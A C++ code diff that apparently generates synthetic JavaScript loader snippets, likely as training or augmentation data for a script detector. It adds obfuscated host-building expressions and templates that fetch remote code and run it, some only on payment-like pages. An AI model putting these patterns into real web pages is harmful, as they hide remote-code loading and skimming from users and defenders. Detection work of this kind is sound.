@@ -20,6 +20,22 @@ std::string Source(Junk& j) {
                  "location.protocol+'//~host~/'+Math.random().toString(36).slice(2)+'.js'"});
 }
 
+// One of a loader. What stands there in plain words is what everybody's tags have, too.
+std::string FarSource(Junk& j) {
+  if (j.Chance(0.1)) return Source(j);
+  return j.Pick(
+      {"atob('~b64s~')", "window.atob(\"~b64s~\")", "String.fromCharCode(~codes~)",
+       "['ht','tps:','//','~word~','.~host~','/~letters~.js'].join('')",
+       "'~letters~//~host~'.replace('~letters~','')",
+       "'sj.~letters~/~letters~//:sptth'.split('')"
+       ".reverse().join('')",
+       "decodeURIComponent('~pct~')", "unescape('~pct~')", "\"~esc~\"",
+       "atob('~b64s~')+'?'+Date.now()",
+       "location.protocol+'//'+atob('~b64s~')+'/'+Math.random().toString(36).slice(2)+'.js'",
+       "'https://'+[~rows~].map(function(~7~){return String.fromCharCode(~7~^~small~)}).join('')",
+       "'ht'+'tp'+'s:'+'//'+'~word~'+'.'+'invalid'+'/'+'~word~'"});
+}
+
 std::string Rows(Junk& j) {
   std::string text;
   const bool words = j.Chance(0.3);
@@ -88,6 +104,7 @@ std::string Salad(Junk& j) {
 const Makers& PlainMakers() {
   static const Makers makers = {
       {"src", Source},
+      {"far", FarSource},
       {"rows", Rows},
       {"packed", Packed},
       {"radix",
@@ -146,32 +163,32 @@ const Makers& PlainMakers() {
 constexpr const char* kPlain[] = {
     // Loaders.
     "(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'}"
-    ");var f=d.getElementsByTagName(s)[0],j=d.createElement(s);j.async=true;j.src=~src~;"
+    ");var f=d.getElementsByTagName(s)[0],j=d.createElement(s);j.async=true;j.src=~far~;"
     "f.parentNode.insertBefore(j,f);})(window,document,'script','dataLayer','GTM-~letters~');",
-    "(function(){var ~0~=document.createElement('script');~0~.async=1;~0~.src=~src~;~place~;})();",
+    "(function(){var ~0~=document.createElement('script');~0~.async=1;~0~.src=~far~;~place~;})();",
     "(function(a,b,c,d,e){a=b.createElement(c);a.async=1;a.src=e;d=b.getElementsByTagName(c)[0];"
-    "d.parentNode.insertBefore(a,d)})(0,document,'script',0,~src~);",
-    "!function(){var ~0~=document.createElement(\"script\");~0~.src=~src~;~place~}();",
-    "if(/~pay~/.test(location.href)){var ~0~=document.createElement('script');~0~.src=~src~;"
+    "d.parentNode.insertBefore(a,d)})(0,document,'script',0,~far~);",
+    "!function(){var ~0~=document.createElement(\"script\");~0~.src=~far~;~place~}();",
+    "if(/~pay~/.test(location.href)){var ~0~=document.createElement('script');~0~.src=~far~;"
     "~place~;}",
     "window.addEventListener('load',function(){var ~0~=document.createElement('script');~0~.src="
-    "~src~;~place~;});",
-    "if(!window.~2~){window.~2~=1;var ~0~=document.createElement('script');~0~.src=~src~;~place~;}",
+    "~far~;~place~;});",
+    "if(!window.~2~){window.~2~=1;var ~0~=document.createElement('script');~0~.src=~far~;~place~;}",
     "(function(i,s,h,k,l,o,f,m){i['GoogleAnalyticsObject']=l;~1~=s.createElement(h);~1~.src=atob(k)"
     ";s.head.appendChild(~1~);})(window,document,'script','~b64s~','ga');",
     "var ~0~=new WebSocket('wss://~host~/~word~?source='+location.href);~0~.onmessage=function(~2~)"
     "{var ~1~=~2~.data;~call~;};",
-    "var ~0~=new WebSocket(~src~.replace('https','wss'));~0~.addEventListener('message',function("
+    "var ~0~=new WebSocket(~far~.replace('https','wss'));~0~.addEventListener('message',function("
     "~2~){var ~1~=~2~.data;~call~});",
     "(function(){var ~0~=new WebSocket(\"wss://~host~:~port~/~letters~\");~0~.onopen=function(){~0~"
     ".send(document.location.host)};~0~.onmessage=function(e){new Function(e.data)();~0~.close()}})"
     "();",
-    "fetch(~src~).then(~2~=>~2~.text()).then(~1~=>{~call~});",
-    "(async()=>{const ~1~=await(await fetch(~src~)).text();~call~})();",
+    "fetch(~far~).then(~2~=>~2~.text()).then(~1~=>{~call~});",
+    "(async()=>{const ~1~=await(await fetch(~far~)).text();~call~})();",
     "var ~0~=new XMLHttpRequest;~0~.onload=function(){var ~1~=this.responseText;~call~};~0~.open("
-    "'GET',~src~);~0~.send();",
-    "var ~0~=new EventSource(~src~);~0~.onmessage=({data:~1~})=>{~call~};",
-    "navigator.serviceWorker.register('/~word~.js').then(()=>{importScripts(~src~)});",
+    "'GET',~far~);~0~.send();",
+    "var ~0~=new EventSource(~far~);~0~.onmessage=({data:~1~})=>{~call~};",
+    "navigator.serviceWorker.register('/~word~.js').then(()=>{importScripts(~far~)});",
     "const ~0~=document.querySelector('img#~word~');~0~.onerror=function(){var ~1~=atob(this."
     "dataset.~word~);~call~};",
     // Numbers to text, and run.
@@ -262,6 +279,9 @@ constexpr const char* kPlain[] = {
 
 }  // namespace
 
-std::string PlainScriptLookalike(Junk& junk) { return FillAny(kPlain, PlainMakers(), junk); }
+std::string PlainScriptLookalike(Junk& junk) {
+  if (junk.Chance(0.4)) return TagLookalike(junk);
+  return FillAny(kPlain, PlainMakers(), junk);
+}
 
 }  // namespace fovea::augment
